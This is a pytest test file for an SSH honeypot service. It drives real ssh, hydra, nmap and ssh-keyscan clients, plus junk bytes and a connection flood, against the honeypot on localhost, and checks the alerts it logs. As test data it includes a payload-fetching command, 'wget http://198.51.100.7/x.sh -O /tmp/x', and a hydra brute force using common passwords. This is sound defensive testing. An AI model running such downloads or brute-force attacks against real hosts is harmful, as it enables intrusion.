"""The ssh service with real clients: OpenSSH's ssh (through sshpass) for
password and keyboard-interactive logins, public keys, exec requests and a
pty shell; hydra's brute force; nmap -sV; ssh-keyscan for the host keys;
hostile bytes and a flood of connections while a legitimate client logs in."""
import hashlib
import os
import random
import shutil
import signal
import stat
import subprocess

import pytest

from conftest import free_port, read_json_lines, stop_process, wait_for, wait_log_while_running
from honeypot_clients import (Flood, connect, hydra_attack, memory_bound_kb, nmap_service, recv_until,
                              recv_until_closed, rss_kb, run_on_port_zero)

NO_CONFIG = ["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
             "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=20"]


@pytest.fixture
def alerts_file(hc, tmp_path):
    assert shutil.which("ssh") and shutil.which("sshpass"), "installed by scripts/install-deps.sh"
    hc.run("service", "install", "ssh", check=True)
    hc.run("integration", "install", "json_file", check=True)
    path = tmp_path / "alerts.json"
    hc.run("integration", "configure", "json_file", f"filepath={path}", check=True)
    return path


def start(hc, tmp_path, *extra):
    """ssh with its host keys under `tmp_path`."""
    return run_on_port_zero(hc, "ssh", "SSH", "hostname=honey01", f"host_keys={tmp_path / 'keys'}", *extra)


def ssh(port, user, password, *args, method="password", options=(), input=None, timeout=60):
    """OpenSSH's client through sshpass: (exit code, stdout, stderr)."""
    argv = ["sshpass", "-p", password, "ssh", *NO_CONFIG, "-o", "PubkeyAuthentication=no",
            "-o", f"PreferredAuthentications={method}", *options, "-p", str(port), f"{user}@127.0.0.1", *args]
    r = subprocess.run(argv, input=input, capture_output=True, timeout=timeout)
    return r.returncode, r.stdout.decode(errors="replace"), r.stderr.decode(errors="replace")


def events(path, event_type=None, session=None):
    return [a for a in read_json_lines(path)
            if (event_type is None or a["event_type"] == event_type) and (session is None or a["session"] == session)]


def client_kex_algorithms():
    """The key exchange list this machine's ssh offers (ssh -G)."""
    r = subprocess.run(["ssh", "-G", "-F", "/dev/null", "127.0.0.1"], capture_output=True, text=True, check=True)
    return next(line.split(" ", 1)[1] for line in r.stdout.splitlines() if line.startswith("kexalgorithms "))


def test_exec_shell_and_downloads_are_recorded(hc, alerts_file, tmp_path):
    proc, port = start(hc, tmp_path, "accept_after=0", "credentials=root:secret")
    code, out, err = ssh(port, "root", "secret", "uname -a; wget http://198.51.100.7/x.sh -O /tmp/x")
    assert code == 0, err
    assert "Linux honey01 6.1.0-" in out
    assert "Connecting to 198.51.100.7" in out
    # A pty shell fed from a pipe: the keys are echoed, prompts follow cd.
    code, out, err = ssh(port, "root", "secret", options=["-tt"], input=b"cd /tmp\ncat /etc/hostname\nexit\n")
    assert code == 0, err
    assert "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY" in out
    assert "root@honey01:/tmp# cat /etc/hostname\r\nhoney01\r\nroot@honey01:/tmp# exit\r\nlogout\r\n" in out
    assert "logout" in out
    gone = wait_for(lambda: len(events(alerts_file, "ssh.disconnect")) == 2 and events(alerts_file, "ssh.disconnect"),
                    what="two disconnects")
    code, _, err = stop_process(proc, signal.SIGINT)
    assert code == 0, err

    exec_session, shell_session = gone[0]["session"], gone[1]["session"]
    [exec_command] = events(alerts_file, "ssh.command", exec_session)
    assert exec_command["cmd"] == "uname -a; wget http://198.51.100.7/x.sh -O /tmp/x"
    assert exec_command["exec"] and exec_command["username"] == "root"
    [download] = events(alerts_file, "ssh.download", exec_session)
    assert download["url"] == "http://198.51.100.7/x.sh"
    shell_commands = events(alerts_file, "ssh.command", shell_session)
    assert [(a["cmd"], a["cwd"], bool(a["exec"])) for a in shell_commands] == [
        ("cd /tmp", "/root", False), ("cat /etc/hostname", "/tmp", False), ("exit", "/tmp", False)]
    assert gone[1]["reason"] == "logout"
    assert (gone[1]["login_attempts"], gone[1]["commands"]) == (1, 3)

    for login in events(alerts_file, "ssh.login"):
        assert (login["username"], login["password"], login["method"], login["outcome"]) == (
            "root", "secret", "password", "success")
        assert login["client_version"].startswith("SSH-2.0-OpenSSH_")
        assert login["originating_ip"] == "127.0.0.1" and login["dest_port"] == port
    # HASSH: the MD5 of the client's kex;ciphers;MACs;compression lists,
    # whose first is what this ssh says it offers.
    assert gone[0]["hassh"] == hashlib.md5(gone[0]["hassh_algorithms"].encode()).hexdigest()
    assert gone[0]["hassh_algorithms"].split(";")[0].startswith(client_kex_algorithms())
    [connect_event] = events(alerts_file, "ssh.connect", exec_session)
    assert connect_event["originating_ip"] == "127.0.0.1"


def test_keyboard_interactive_password_and_public_key_are_recorded(hc, alerts_file, tmp_path):
    proc, port = start(hc, tmp_path, "accept_after=0")
    assert ssh(port, "admin", "kbd-pass", "id", method="keyboard-interactive")[0] == 5  # sshpass: wrong password
    assert ssh(port, "admin", "pw-pass", "id", method="password")[0] == 5
    key = tmp_path / "id_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    r = subprocess.run(["ssh", *NO_CONFIG, "-o", "BatchMode=yes", "-o", "PreferredAuthentications=publickey",
                        "-o", "IdentitiesOnly=yes", "-i", str(key), "-p", str(port), "deploy@127.0.0.1", "id"],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 255 and "Permission denied" in r.stderr, r.stderr
    wait_for(lambda: len(events(alerts_file, "ssh.disconnect")) == 3, what="three disconnects")
    stop_process(proc, signal.SIGINT)
    logins = events(alerts_file, "ssh.login")
    assert [(a["username"], a.get("password"), a["method"], a["outcome"]) for a in logins] == [
        ("admin", "kbd-pass", "keyboard-interactive", "failure"), ("admin", "pw-pass", "password", "failure"),
        ("deploy", None, "publickey", "failure")]
    fingerprint = subprocess.run(["ssh-keygen", "-l", "-f", f"{key}.pub"], capture_output=True, text=True,
                                 check=True).stdout.split()[1]
    assert (logins[2]["key_type"], logins[2]["key_fingerprint"]) == ("ssh-ed25519", fingerprint)


def test_too_many_failed_logins_close_the_connection(hc, alerts_file, tmp_path):
    proc, port = start(hc, tmp_path, "accept_after=0", "max_attempts=2")
    askpass = tmp_path / "askpass.sh"
    askpass.write_text("#!/bin/sh\necho wrong-password\n")
    askpass.chmod(0o755)
    env = dict(os.environ, SSH_ASKPASS=str(askpass), SSH_ASKPASS_REQUIRE="force", DISPLAY=":0")
    r = subprocess.run(["ssh", *NO_CONFIG, "-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password",
                        "-o", "NumberOfPasswordPrompts=5", "-p", str(port), "oracle@127.0.0.1", "id"],
                       capture_output=True, text=True, env=env, stdin=subprocess.DEVNULL, timeout=60)
    assert r.returncode == 255, r.stderr
    [gone] = wait_for(lambda: events(alerts_file, "ssh.disconnect"), what="the disconnect")
    stop_process(proc, signal.SIGINT)
    assert gone["reason"] == "too many login attempts"
    assert [a["attempt"] for a in events(alerts_file, "ssh.login")] == [1, 2]


def test_hydra_every_attempt_is_one_login_event(hc, alerts_file, tmp_path):
    users = ["root", "admin", "ubuntu", "support", "oracle"]
    passwords = ["123456", "password", "admin", "12345", "root", "letmein"]
    r, alerts, proc = hydra_attack(
        hc, tmp_path, lambda: start(hc, tmp_path, "accept_after=0", "credentials=support:letmein"), "ssh",
        users, passwords)
    assert "login: support   password: letmein" in r.stdout, r.stdout
    assert "1 valid password found" in r.stdout, r.stdout
    expected = {(u, p) for u in users for p in passwords}
    wait_for(lambda: len(events(alerts, "ssh.login")) >= len(expected), timeout=30,
             what=f"{len(expected)} login events")
    stop_process(proc, signal.SIGINT)
    logins = events(alerts, "ssh.login")
    assert len(logins) == len(expected)
    assert {(a["username"], a["password"]) for a in logins} == expected
    assert [(a["username"], a["password"]) for a in logins if a["outcome"] == "success"] == [("support", "letmein")]
    assert {a["client_version"].split("_")[0] for a in logins} == {"SSH-2.0-libssh"}  # hydra speaks through libssh


def test_nmap_identifies_openssh(hc, alerts_file, tmp_path):
    proc, port = start(hc, tmp_path, "version=OpenSSH_9.2p1 Debian-2+deb12u3")
    assert nmap_service(port) == ("ssh", "OpenSSH")
    stop_process(proc, signal.SIGINT)


def test_host_keys_are_made_once_per_install(hc, alerts_file, tmp_path):
    def scan(port):
        r = subprocess.run(["ssh-keyscan", "-p", str(port), "-t", "ed25519,ecdsa,rsa", "127.0.0.1"],
                           capture_output=True, text=True, timeout=60)
        return sorted(line.split(" ", 1)[1] for line in r.stdout.splitlines() if not line.startswith("#"))

    proc, port = start(hc, tmp_path)
    first = scan(port)
    stop_process(proc, signal.SIGINT)
    assert [k.split()[0] for k in first] == ["ecdsa-sha2-nistp256", "ssh-ed25519", "ssh-rsa"]
    for name in ("ssh_host_ed25519_key", "ssh_host_ecdsa_key", "ssh_host_rsa_key"):
        assert stat.S_IMODE((tmp_path / "keys" / name).stat().st_mode) == 0o600
    proc, port = start(hc, tmp_path)
    assert scan(port) == first  # kept across restarts
    stop_process(proc, signal.SIGINT)
    other = tmp_path / "other"
    other.mkdir()
    proc, port = start(hc, other)
    assert not set(scan(port)) & set(first)  # another install, other keys
    stop_process(proc, signal.SIGINT)


def test_what_is_not_ssh_is_an_anomaly(hc, alerts_file, tmp_path):
    proc, port = start(hc, tmp_path, "version=OpenSSH_9.2p1 Debian-2+deb12u3")
    with connect(port) as s:
        assert recv_until(s, b"\r\n") == b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        recv_until_closed(s)
    [gone] = wait_for(lambda: events(alerts_file, "ssh.disconnect"), what="the disconnect")
    stop_process(proc, signal.SIGINT)
    assert gone["reason"] == "not ssh"
    [anomaly] = events(alerts_file, "ssh.anomaly")
    assert anomaly["reason"] == "not ssh"
    assert anomaly["data"] == "GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"


def test_idle_connection_is_closed(hc, alerts_file, tmp_path):
    proc, port = start(hc, tmp_path, "idle_timeout=1")
    with connect(port) as s:
        recv_until(s, b"\r\n")
        s.sendall(b"SSH-2.0-quiet\r\n")
        recv_until_closed(s)
    [gone] = wait_for(lambda: events(alerts_file, "ssh.disconnect"), what="the disconnect")
    stop_process(proc, signal.SIGINT)
    assert (gone["reason"], gone["client_version"]) == ("idle timeout", "SSH-2.0-quiet")


def test_hostile_bytes_and_a_flood_while_a_client_logs_in(hc, alerts_file, tmp_path):
    proc, port = start(hc, tmp_path, "max_per_ip=40", "max_connections=2000", "credentials=root:root",
                       "accept_after=0")
    rng = random.Random(11)
    for i in range(20):
        with connect(port) as s:
            recv_until(s, b"\r\n")
            junk = rng.randbytes(rng.randint(1, 6000))
            # Half after a valid identification: libssh gets the junk as packets.
            s.sendall((b"SSH-2.0-junk\r\n" if i % 2 else b"") + junk)
            recv_until_closed(s)
    # Clients that identify and then say nothing: every admitted one stays.
    flood = Flood(port, sources=20, per_source=50, payload=b"SSH-2.0-flood\r\n")
    try:
        wait_log_while_running(hc, proc, lambda r: "max_per_ip reached" in r.get("message", ""),
                               what="a refusal logged")
        wait_for(lambda: flood.closed() == 200, timeout=30, what="200 refused connections closed")
        code, out, err = ssh(port, "root", "root", "echo alive", options=["-b", "127.0.0.2"])
        assert code == 0 and out == "alive\n", err
        assert rss_kb(proc.pid) < memory_bound_kb(proc.pid, 96)
    finally:
        flood.close()
    code, _, err = stop_process(proc, signal.SIGINT)
    assert code == 0, err
    assert [a["cmd"] for a in events(alerts_file, "ssh.command") if a["originating_ip"] == "127.0.0.2"] == [
        "echo alive"]


def test_service_test_against_a_daemon(hc, alerts_file, tmp_path):
    # On 127.0.0.1, not 0.0.0.0: the flood tests' closing client sockets
    # (bound to 127.0.1.x) may still hold the port free_port() returns.
    port = free_port()
    r = hc.run("service", "run", "ssh", f"port={port}", "address=127.0.0.1", f"host_keys={tmp_path / 'keys'}", "-d", "-i", "json_file",
               timeout=60)
    assert r.returncode == 0, r.stdout + r.stderr
    try:
        r = hc.run("service", "test", "ssh", timeout=30)
        assert r.returncode == 0, r.stdout + r.stderr
        assert r.stdout.splitlines() == [f"ssh.{t} alert tested successfully" for t in ("connect", "disconnect")]
        [gone] = wait_for(lambda: events(alerts_file, "ssh.disconnect"), what="the test's disconnect")
        assert gone["client_version"] == "SSH-2.0-honeycomb-test"
    finally:
        hc.run("service", "stop", "ssh", timeout=30)
